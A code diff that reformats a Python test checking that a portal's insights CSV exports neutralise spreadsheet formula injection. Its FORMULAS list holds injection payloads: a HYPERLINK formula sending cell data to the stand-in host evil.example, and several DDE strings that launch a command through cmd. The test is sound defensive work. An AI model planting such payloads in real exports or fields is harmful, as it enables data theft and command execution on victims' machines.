@@ -14,9 +14,15 @@ from portal.insights.tables import FORMULA_STARTS, spreadsheet_safe
 from portal.models import ArticleFeedback
 from tests.portal.test_insights_rollup import at, search, view
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看订单")', "+1+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
-            "=退货 运费"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看订单")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=退货 运费",
+]
 RANGE = {"start": "2026-10-01", "end": "2026-10-31"}
 CSV_LINK = re.compile(r'href="([^"]*[?&]csv=[^"]*)"')
 
@@ -35,9 +41,15 @@ def _seed(make, article):
             search(at(day, 9), query, anon=f"v{day}", results=0)
             led = search(at(day, 10), query, anon=f"w{day}")
             view(at(day, 10, 1), article, anon=f"w{day}", search_id=led.id)
-        db.session.add(ArticleFeedback(article_id=article.id, helpful=False, comment=query,
-                                       anon_id=f"fb{FORMULAS.index(query)}",
-                                       created_at=at(12, 9)))
+        db.session.add(
+            ArticleFeedback(
+                article_id=article.id,
+                helpful=False,
+                comment=query,
+                anon_id=f"fb{FORMULAS.index(query)}",
+                created_at=at(12, 9),
+            )
+        )
     db.session.commit()
     roll_up(until=datetime(2026, 11, 1))
 
@@ -47,9 +59,11 @@ def test_every_insights_csv_neutralises_formulas(app, client, make, clock):
     article = make.article(title="退货运费说明")
     _seed(make, article)
     client.login(make.user("editor"))
-    pages = [rule.rule.replace("<int:article_id>", str(article.id))
-             for rule in app.url_map.iter_rules()
-             if rule.endpoint.startswith("insights.") and "GET" in rule.methods]
+    pages = [
+        rule.rule.replace("<int:article_id>", str(article.id))
+        for rule in app.url_map.iter_rules()
+        if rule.endpoint.startswith("insights.") and "GET" in rule.methods
+    ]
     downloads, neutralised, failures = set(), 0, []
     for page in pages:
         html = client.get(page, query_string=RANGE).get_data(as_text=True)
